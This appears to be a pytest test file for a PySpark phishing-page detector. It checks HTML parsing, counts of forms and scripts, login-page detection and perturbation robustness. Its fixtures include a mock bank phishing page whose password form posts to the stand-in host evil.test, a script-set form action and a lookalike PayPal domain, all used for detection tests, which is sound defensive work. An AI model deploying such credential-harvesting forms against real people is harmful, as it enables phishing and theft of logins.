import html
import random
import re
import time

import pyarrow as pa
import pytest
from pyspark.sql import functions as F

from wardline.functions import fixed
from wardline.functions.phrases import Counter, phrase_count, phrase_counts
from wardline.operators import pages, robustness, scoring
from wardline.sources import readers
from wardline.sources.elements import element_arrays, page_elements, page_slices, read_page

LOGIN = """<html><head><title>Bank</title></head><body><h1>Login</h1><p>Please verify your account now.</p>
<form action="https://evil.test/x"><input type="text" name="username"><input type="password" name="p"><input type="submit" value="Go"></form></body></html>"""


def one(spark, html, url="http://test.com", **how):
    return pages.analysed_pages(spark.createDataFrame([(url, html)], "url string, html string"), **how).first()


@pytest.mark.parametrize(("html", "n"), [("<head><script>a</script><script src=x></script></head>", 2), ("<p>x</p>", 0), ("<head><script>1</script></head><body>" + "<script>2</script>" * 4 + "</body>", 5)])
def test_script_counts(spark, html, n):
    assert one(spark, html)["scripts"] == n


def test_hidden_text_and_hyphens(spark):
    got = one(spark, '<p style="display:none">password</p><p>sign-in</p>')
    assert (got["login_indicators"], got["credential_indicators"]) == (1, 0)


def test_hidden_scripts_still_count(spark):
    assert one(spark, '<div aria-hidden="true"><script>x</script><form></form></div>')["scripts"] == 1
    assert one(spark, '<div aria-hidden="true"><script>x</script><form></form></div>')["forms"] == 0


def test_absolute_link_of_a_page_without_address(spark):
    assert one(spark, '<a href="http://z.test/">z</a>', "")["external_links"] == 1


def test_null_and_blank_pages_are_zero(spark):
    for html in (None, "", "   "):
        got = one(spark, html)
        assert (got["text_length"], got["forms"], got["html_available"], got["form_actions"]) == (0, 0, False, [])


def test_text_is_capped(spark):
    assert one(spark, "<p>" + "word " * 4000 + "</p>")["text_length"] == 5000


def test_login_scan(spark):
    df = spark.createDataFrame([("https://secure.paypal-check.com/login", LOGIN)], "url string, html string")
    got = scoring.scan(df).first()
    assert got["page_features"]["password_fields"] == 1 and got["page_features"]["form_actions"] == ["https://evil.test/x"]
    assert "Form submits data to an external domain (evil.test)." in got["reasons"] and got["fusion_mode"] == "combined"


def test_form_action_by_script_is_seen(spark):
    got = one(spark, "<form onsubmit=\"this.action='https://evil.test/a'; return true;\"></form>")
    assert got["form_actions"] == ["https://evil.test/a"] and got["has_external_form_action"]


def test_login_page_detector(spark):
    rows = [("http://a.test/", LOGIN), ("http://a.test/", "<p>hello</p>"), ("http://a.test/login", "<p>sign in</p>"), ("http://a.test/", '<form><input type="email"></form>')]
    df = pages.login_page(page_elements(spark.createDataFrame(rows, "url string, html string")))
    assert [r["is_login_page"] for r in df.collect()] == [True, False, True, True]


def test_unclosed_tags_and_script_bodies():
    tags = [e["tag"] for e in read_page('<p>a<p>b<script>var t="</p>";</script><br>c')]
    assert tags == ["p", "#text", "p", "#text", "script", "#text", "br", "#text"]


def test_page_changes_leave_url_features_alone(spark):
    df = spark.createDataFrame([(1, "http://a.test/login", LOGIN)], "page_id int, url string, html string")
    changed = robustness.perturb_pages(page_elements(df))
    assert changed.select("url").distinct().count() == 1
    got = {r["perturbation"]: r for r in pages.page_features(changed).collect()}
    assert got["page_masked_password"]["password_fields"] == 1 and got["page_form_by_script"]["form_actions"] == ["https://evil.test/x"]
    assert got["page_hidden_iframe"]["iframes"] == 1 and got["page_synonyms"]["login_indicators"] <= got["page_meta"]["login_indicators"]


def test_percent_encoding(spark):
    rows = [("http://a.test/abc?x=1",), ("http://a.test/?q",), ("http://a.test",)]
    df = spark.createDataFrame(rows, "url string").select(robustness.percent_encoded(__import__("pyspark").sql.functions.col("url")).alias("u"))
    assert [r["u"] for r in df.collect()] == ["http://a.test/%61bc?x=1", "http://a.test/?%71", "http://a.test/%2F"]


def test_annotated_text(spark):
    df = pages.annotated_text(page_elements(spark.createDataFrame([("u", LOGIN)], "url string, html string")), 4)
    assert df.first()["annotated"] == "[TITLE] Bank Login Please"


SIGNS = ["<", "</", ">", "<!", "<![", "[", "]]>", "<!--", "-->", "<?", "a", "script", "title", "=", "'", '"', " ", "/", "&", "#x41;", "&#99999999999;", "&#xD800;", "\0", "é", "<a href=x>", "</script>", "<!DOCTYPE", "--!>", "\n", "CDATA[", "if IE]>", "style", "foo"]


def test_no_page_raises():
    rng = random.Random(0)
    for _ in range(10_000):
        read_page("".join(rng.choices(SIGNS, k=rng.randint(0, 25))))
        read_page(rng.randbytes(rng.randint(0, 100)).decode("latin-1"))
    assert [e["text"] for e in read_page("a<![foo[bar]]>b") if e["tag"] == "#text"] == ["a", "b"]
    assert [e["tag"] for e in read_page("<p>x<![if IE]>y</p><a <b")] == ["p", "#text", "#text", "#text"]


@pytest.mark.parametrize("page", ["<p>" * 20_000 + "</b>" * 20_000, *(s * (100_000 // len(s)) + e for s in ("<!--", "<![x", "<a ", "</a ", "<a b='", "<?", "<!", "&#") for e in ("", ">")), "<script>" + "</scrip" * 14_000 + ">", "<p>word</p>" * 90_000])
def test_time_is_linear(page):
    began = time.process_time()
    read_page(page)
    assert time.process_time() - began < 8


def test_arrow_columns_are_the_elements():
    made = ["<title>t</title><form action='/x'><input type=text value></form><p style='display:none'>a<script>b</script>", None, "", "plain"]
    assert [[{**e, "attrs": dict(e["attrs"])} for e in p] for p in element_arrays(made).to_pylist()] == [read_page(h) for h in made]
    assert element_arrays([]).to_pylist() == [] and element_arrays([None]).to_pylist() == [[]]


def by_pattern(text, phrases):
    side = r"(?<![^\W])", r"(?![^\W])"
    return sum(len(re.findall(side[0] + re.escape(p.lower()) + side[1], text)) for p in phrases)


def test_phrases_by_automaton_and_by_patterns():
    rng = random.Random(2)
    banks = {**fixed.PAGE_WORDS, "nested": ("now", "act now", "now act now", "act", "a", "a a", "don't", "ACT"), "none": ()}
    words = [w for p in banks.values() for w in p] + ["a", "b", "é", "_", "1", "ação"]
    own = Counter(tuple((n, tuple(p)) for n, p in banks.items()))
    for _ in range(1_500):
        text = "".join(rng.choice(words).lower() + rng.choice([" ", "  ", "-", "", ".", "_", "'"]) for _ in range(rng.randint(0, 30)))
        assert own.counts(text) == [by_pattern(text, p) for p in banks.values()], text


def test_phrases_of_odd_texts(spark):
    rows = spark.createDataFrame([(None,), ("",), ("pay now now",)], "text string").select(phrase_counts(F.col("text"), {"x": ("now", "pay now"), "y": ()}).alias("c"), phrase_count(F.col("text"), ("pay",)).alias("n"))
    assert [(r["c"] and tuple(r["c"]), r["n"]) for r in rows.collect()] == [(None, 0), ((0, 0), 0), ((3, 0), 1)]


def test_titles_decode_every_entity(spark):
    """As an HTML parser reads them: quotes too, and an entity whose semicolon was cut off."""
    raw = ["a &quot;b", "ver&amp", "x &lt;y&gt; &#39;z&#39;", "&amp;&amp; &eacute;", "&amp;quot;"]
    df = spark.createDataFrame([(i, "http://a.example/", f"<html><title>{t}</title></html>") for i, t in enumerate(raw)], "k int, url string, html string")
    got = [r["page_title"] for r in pages.page_features(page_elements(df)).orderBy("k").collect()]
    assert got == [html.unescape(t) for t in raw]


def test_pages_are_dealt_to_more_tasks_not_longer_ones(spark, tmp_path):
    spark.range(3_000).coalesce(1).write.parquet(str(tmp_path / "t"))
    out = readers.spread(spark.read.parquet(str(tmp_path / "t")), 100)
    assert out.rdd.getNumPartitions() == 30 and out.distinct().count() == 3_000
    assert readers.spread(spark.read.parquet(str(tmp_path / "t"))).rdd.getNumPartitions() >= spark.sparkContext.defaultParallelism


def test_pages_are_read_in_bounded_slices(spark):
    sizes = [0, 10, 700, None, 5_000, 20, 20, 20, 20, 20]
    batch = pa.RecordBatch.from_arrays([pa.array(range(10)), pa.array([None if n is None else "x" * n for n in sizes])], ["k", "html"])
    parts = list(page_slices(batch, 4, 1_000))
    assert [k for p in parts for k in p["k"].to_pylist()] == list(range(10))
    assert [p.num_rows for p in parts] == [4, 1, 4, 1]
